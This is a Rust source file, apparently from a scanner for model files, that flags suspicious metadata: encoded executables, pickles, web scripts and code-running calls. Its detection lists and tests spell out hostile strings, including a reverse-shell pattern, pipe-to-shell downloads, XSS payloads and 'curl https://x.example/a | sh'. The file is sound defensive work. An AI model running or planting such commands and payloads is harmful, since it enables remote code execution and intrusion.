//! What metadata may hold: descriptions, and what is none.

use base64::Engine as _;
use base64::alphabet::{STANDARD, URL_SAFE};
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use crate::report::{Evidence, Report, quote};
use crate::rules;
use crate::tensor::payload::{self, Class, ENOUGH};

/// Encoded text of this many characters is no description any more. Digests, keys and thumbnails of
/// a few kilobytes occur in honest metadata.
const LONG: usize = 16 << 10;

/// How much text a value may be searched for, in bytes. Longer ones are licences and tokenizers.
const SEARCHED: usize = 1 << 20;

/// Judges a metadata value that people or other programs are going to read.
pub(crate) fn judge(key: &str, value: &str, report: &mut Report<'_>) {
    let Some(what) = suspicion(value) else {
        return;
    };
    let message = format!(
        "The metadata value `{}` holds {what}: \"{}\".",
        quote(key),
        quote(value.get(..256).unwrap_or(value).trim())
    );
    report.find(&rules::SUSPICIOUS_METADATA, Evidence::new(key, message));
}

/// What a value is, if it is no description.
fn suspicion(value: &str) -> Option<String> {
    if let Some(found) = payload::kind(value.as_bytes()) {
        return Some(found.name.to_owned());
    }
    let searched = value.get(..SEARCHED).unwrap_or(value);
    if let Some(found) = encoded(searched) {
        return Some(found);
    }
    active(searched).map(str::to_owned)
}

/// Something that is encoded in a text: what it is, or that it is long.
fn encoded(text: &str) -> Option<String> {
    let symbol = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=');
    let trimmed = text.trim();
    // A `data:` address has its content behind a comma.
    let run = trimmed.rsplit(',').next().unwrap_or(trimmed);
    let bytes: Vec<u8> = run
        .bytes()
        .filter(|byte| !byte.is_ascii_whitespace())
        .collect();
    if bytes.len() < 24 || !bytes.iter().copied().all(symbol) {
        return None;
    }
    let is_hex = bytes.iter().all(u8::is_ascii_hexdigit);
    let part = bytes.get(..ENOUGH * 4 / 3 / 4 * 4).unwrap_or(&bytes);
    let decoded = if is_hex {
        part.chunks_exact(2).filter_map(hex_byte).collect()
    } else {
        decode(part)?
    };
    if let Some(found) = payload::kind(&decoded) {
        return Some(format!("{} in encoded form", found.name));
    }
    if is_picture(&decoded) {
        return None;
    }
    // Words in a language without spaces are no encoding; those have all sorts of symbols mixed.
    let mixed = bytes.iter().any(u8::is_ascii_digit)
        && bytes.iter().any(u8::is_ascii_uppercase)
        && bytes.iter().any(u8::is_ascii_lowercase);
    (bytes.len() >= LONG && (mixed || is_hex))
        .then(|| format!("{} characters of encoded data", bytes.len()))
}

/// A thumbnail, which catalogues of image models keep in the file.
fn is_picture(bytes: &[u8]) -> bool {
    [&b"\xFF\xD8\xFF"[..], b"\x89PNG\r\n\x1A\n", b"GIF8"]
        .iter()
        .any(|magic| bytes.starts_with(magic))
        || (bytes.starts_with(b"RIFF") && bytes.get(8..12) == Some(b"WEBP"))
}

fn hex_byte(pair: &[u8]) -> Option<u8> {
    let text = std::str::from_utf8(pair).ok()?;
    u8::from_str_radix(text, 16).ok()
}

/// Bytes from base64 of either alphabet, padded or not.
fn decode(symbols: &[u8]) -> Option<Vec<u8>> {
    const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent);
    [&STANDARD, &URL_SAFE]
        .into_iter()
        .find_map(|alphabet| GeneralPurpose::new(alphabet, LENIENT).decode(symbols).ok())
}

/// Text that runs where it is shown or evaluated.
fn active(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    let has = |what: &str| lower.contains(what);
    if has("<script") || has("javascript:") || (has("<iframe") && has("src")) {
        return Some("a script for web pages");
    }
    if (has("<img") || has("<svg") || has("<body"))
        && [" onerror", " onload", " onmouseover"]
            .iter()
            .any(|on| has(on))
    {
        return Some("markup that runs a script");
    }
    // Dunder names and calls that only make sense to an interpreter. A mention in prose has no
    // call with an argument behind it.
    let calls = [
        "__import__(",
        "os.system(",
        "subprocess.popen(",
        "subprocess.run(",
        "subprocess.call(",
        "subprocess.check_output(",
        "eval(compile(",
        "exec(base64",
        "pickle.loads(",
        "exec(compile(",
        "marshal.loads(",
        "builtins.exec(",
        "__subclasses__(",
    ];
    if calls.iter().any(|call| has(call)) {
        return Some("Python code that runs something");
    }
    let shell = (has("curl ") || has("wget "))
        && [" | sh", "|sh", "| bash", "|bash", "| python", "|python"]
            .iter()
            .any(|to| has(to));
    (shell || has("bash -i >& /dev/tcp/") || has("powershell -e")).then_some("a shell command")
}

/// Judges bytes that are kept as bytes in metadata.
pub(crate) fn judge_bytes(key: &str, value: &[u8], report: &mut Report<'_>) {
    let Some(found) = payload::kind(value).filter(|found| found.class != Class::Document) else {
        if let Ok(text) = std::str::from_utf8(value) {
            judge(key, text, report);
        }
        return;
    };
    let message = format!("The value `{}` is {}.", quote(key), found.name);
    report.find(&rules::EMBEDDED_EXECUTABLE, Evidence::new(key, message));
}

#[cfg(test)]
mod tests {
    use base64::prelude::BASE64_STANDARD;

    use super::*;
    use crate::tensor::payload::tests::{elf, pickle};

    #[test]
    fn tells_descriptions_from_other_things() {
        let check = |value: &str, expected: Option<&str>| {
            let found = suspicion(value);
            match expected {
                Some(part) => assert!(
                    found.as_deref().is_some_and(|f| f.contains(part)),
                    "{value}: {found:?}"
                ),
                None => assert_eq!(found, None, "{value}"),
            }
        };
        check("pt", None);
        check("https://example.com/a?b=c", None);
        check(&"ab".repeat(32), None);
        check(&"word ".repeat(10_000), None);
        check(r#"{"epochs": 3, "note": "call model.eval() first"}"#, None);
        check("Use subprocess only where needed; eval is fine.", None);
        check(&BASE64_STANDARD.encode(elf()), Some("ELF"));
        check(&BASE64_STANDARD.encode(pickle()), Some("pickle"));
        check(
            &elf().iter().map(|b| format!("{b:02x}")).collect::<String>(),
            Some("ELF"),
        );
        check(&"aB3d".repeat(8 << 10), Some("encoded data"));
        check("cposix\nsystem\n(Vid\ntR.", Some("pickle"));
        check("x <script>alert(1)</script>", Some("web pages"));
        check("<img src=x onerror=alert(1)>", Some("markup"));
        check("__import__('os').getcwd()", Some("Python"));
        check("curl https://x.example/a | sh", Some("shell"));
    }
}
